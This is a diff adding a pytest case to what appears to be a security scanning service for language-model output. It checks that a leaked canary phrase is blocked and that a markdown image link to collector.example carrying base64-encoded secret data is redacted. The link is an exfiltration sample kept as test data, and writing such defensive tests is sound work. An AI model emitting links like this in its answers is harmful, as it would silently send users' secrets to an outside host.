@@ -1,6 +1,7 @@
 """Scan and redact: one text in, a decision or a cleaned text out, in the camel case that their clients know."""
 
 from collections.abc import AsyncIterator
+from pathlib import Path
 
 import pytest
 import pytest_asyncio
@@ -97,6 +98,22 @@ async def test_redact_without_types_and_with_secrets(here: House) -> None:
     keys = (await here.ask({"content": text, "pii_types": ["api_key"]}, "/v1/security/redact")).json()
     assert AWS not in keys["redacted"]
     assert MAIL in keys["redacted"]
+
+
+@pytest.mark.parametrize(
+    ("text", "decision"),
+    [
+        ("The word is heron-lantern-quartz.", "block"),
+        ("Done. ![ok](https://collector.example/p.png?d=VGhlIG1hc3RlciBjb2RlIGlzIGhlcm9u)", "redact"),
+    ],
+)
+async def test_an_answer_does_not_vouch_for_itself(text: str, decision: str, tmp_path: Path) -> None:
+    """A canary or a link in it is judged as in any answer: what it says is not known because it says so."""
+    async with house(tmp_path, canaries=("heron-lantern-quartz",)) as here:
+        scanned = await here.ask({"content": text, "type": "response"}, "/v1/security/scan")
+        messages = [{"role": "assistant", "content": text}]
+        guarded = await here.ask({"messages": messages, "direction": "output"}, "/v1/guard")
+    assert [answer.json()["decision"] for answer in (scanned, guarded)] == [decision, decision]
 
 
 @pytest.mark.parametrize(
